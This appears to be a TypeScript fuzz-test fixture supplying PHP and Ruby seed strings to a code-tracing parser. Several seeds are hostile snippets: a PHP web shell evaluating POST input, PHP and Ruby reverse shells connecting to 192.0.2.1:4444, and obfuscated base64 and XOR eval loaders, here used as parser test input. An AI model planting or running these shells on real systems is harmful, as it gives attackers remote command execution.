import { php } from '../../src/trace/languages/php/php.ts';
import { ruby } from '../../src/trace/languages/ruby/ruby.ts';
import { scriptTarget } from './script-targets.ts';
import type { FuzzTarget } from './target.ts';

/** PHP. */
export const phpTarget: FuzzTarget = scriptTarget(php, [
  '<html><?php @eval($_POST["x"]); ?><b><?= `id $a[k] {$o->p["q"]}` ?></b><script language="php">system("id");</script>',
  '$s=fsockopen("192.0.2.1",4444);$p=proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$q);while(!feof($s)){fwrite($q[0],fgets($s));}',
  '$f=create_function(\'$a\',"ev"."al(\\$a);");$f(gzinflate(base64_decode(strrev("=x"))));$$x=${"a"."b"};goto b;a:;b:$k{0}=~"x"^"y";',
  'class A extends B { const X=1; static $s=[1,"a"=>2]; function __destruct(){ foreach($this->x as $k=>[$v,])$k($v); } } $a=new class{};',
  '$h=<<<X\n a $b {$c[1]}\n X;\nswitch($x){case 1:default:match(true){1,2=>f(...$a)};}for($i=0;$i<9;$i++)$z.=chr(ord($q[$i])^5);eval($z);',
]);

/** Ruby. */
export const rubyTarget: FuzzTarget = scriptTarget(ruby, [
  'c=TCPSocket.new("192.0.2.1","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
  'x = <<~A + <<-\'B\'\n  a #{b}\nA\nc\nB\neval x.unpack1("m").gsub(/[a-z]+/i) { |m| m.succ }.tr("a-y", "b-z")[1..-2]',
  'class A < B; C = %w[a b]; def initialize(a, b = 1, *c, k:, **o, &d) = @x ||= a; class << self; def z; yield 1, 2; end; end; end',
  'begin; [1, 2].each_with_index.map { |a, i| (a ^ i).chr }.inject(:+) << "x" * 3; rescue => e; retry; ensure; send(:system, *%w[a b]); end',
  'a, (b, *c), d = 1, [2, 3]; case a when 1, 2 then `id #{$0}` else Open3.popen3("sh") { |i, o| i.puts d } end until a == 9\n__END__\nx',
]);
